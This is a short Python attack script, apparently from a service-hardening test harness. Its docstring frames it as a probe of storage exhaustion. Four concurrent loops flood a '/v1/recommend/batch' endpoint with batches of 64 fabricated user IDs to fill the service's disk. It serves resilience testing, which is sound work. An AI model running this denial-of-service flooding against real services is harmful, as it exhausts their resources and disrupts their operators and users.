"""Request recommendations for users that do not exist, in batches, with scope ``read``.

A service that stores something for each of them lets a reader fill its disk.
"""

import secrets

from attacker import Attacker, run


async def attack(attacker: Attacker) -> None:
    start = secrets.token_hex(4)
    attacker.found["users"] = 0

    async with attacker.client() as http:

        async def client(number: int) -> None:
            batch = 0
            while attacker.is_running():
                users = [f"attack-{start}-{number}-{batch}-{user}" for user in range(64)]
                response = await attacker.request(
                    http, "POST", "/v1/recommend/batch", {"requests": [{"user": user, "k": 5} for user in users]}
                )
                batch += 1
                if response is not None and response.status_code == 200:
                    attacker.found["users"] += len(users)

        await attacker.gather(4, client)


if __name__ == "__main__":
    run(attack)
